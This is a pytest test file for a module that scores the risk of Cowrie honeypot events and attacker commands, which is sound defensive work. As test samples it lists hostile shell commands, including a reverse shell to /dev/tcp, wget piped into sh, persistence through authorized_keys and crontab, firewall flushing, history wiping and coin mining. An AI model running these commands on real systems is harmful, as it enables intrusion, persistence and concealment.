"""The risk score: which rule gives how much, and that the page in the documentation says the same."""

from itertools import pairwise

import pytest

from tallystick.contracts import risk


@pytest.mark.parametrize("rule", risk.KIND_RULES, ids=lambda rule: rule.eventid)
def test_a_kind_is_worth_its_points(rule: risk.KindRule) -> None:
    assert risk.of_kind(rule.eventid) == rule.points


def test_no_rule_gives_more_than_there_is() -> None:
    assert {rule.points for rule in (*risk.KIND_RULES, *risk.COMMAND_RULES, risk.ANY_COMMAND)} <= set(
        range(1, risk.MAX_POINTS + 1)
    )


@pytest.mark.parametrize(
    ("eventid", "points"),
    [
        pytest.param("cowrie.session.connect", 0, id="a kind without a rule"),
        pytest.param("cowrie.something.new", 0, id="an unknown kind"),
        pytest.param("cowrie.command.input", 20, id="a command"),
        pytest.param("cowrie.command.new", 20, id="an unknown kind of command"),
        pytest.param("cowrie.command.chpasswd", 65, id="a command with a rule of its own"),
    ],
)
def test_what_other_kinds_are_worth(eventid: str, points: int) -> None:
    assert risk.of_kind(eventid) == points


@pytest.mark.parametrize(
    ("command", "meaning"),
    [
        ("sh -i >& /dev/tcp/192.0.2.1/4444 0>&1", "connects a shell to the network"),
        ("./xmrig -o pool", "mines"),
        ("echo x >> ~/.ssh/authorized_keys", "writes to the keys of SSH"),
        ("(crontab -l; echo x) | crontab -", "changes scheduled jobs"),
        ("wget http://192.0.2.1/x -O- | sh", "pipes something into a shell or an interpreter"),
        ("iptables -F", "opens the firewall"),
        ("history -c", "wipes its traces"),
        ("echo root:x | chpasswd", "changes a password"),
        ("curl http://192.0.2.1/x", "downloads something"),
        ("chmod +x x", "makes a file executable"),
        ("rm -rf /tmp/x", "removes recursively"),
        ("/bin/busybox ECCHI", "calls an applet of busybox"),
    ],
)
def test_a_command_is_worth_the_points_of_its_rule(command: str, meaning: str) -> None:
    [rule] = [rule for rule in risk.COMMAND_RULES if rule.meaning == meaning]
    assert risk.of_command(command) == rule.points


def test_every_rule_for_commands_has_an_example_above() -> None:
    [mark] = [mark for mark in test_a_command_is_worth_the_points_of_its_rule.pytestmark if mark.name == "parametrize"]  # type: ignore[attr-defined]
    assert {meaning for _, meaning in mark.args[1]} == {rule.meaning for rule in risk.COMMAND_RULES}


def test_the_greatest_rule_decides() -> None:
    assert risk.of_command("wget http://192.0.2.1/x; chmod +x x; ./xmrig") == 90
    assert risk.of_command("uname -a") == 0
    assert all(first.points >= then.points for first, then in pairwise(risk.COMMAND_RULES))


def test_scores_are_between_0_and_100_and_a_high_risk_is_worth_more_than_a_command() -> None:
    assert all(0 < rule.points <= 100 for rule in risk.KIND_RULES)
    assert all(risk.ANY_COMMAND.points < rule.points <= 100 for rule in risk.COMMAND_RULES)
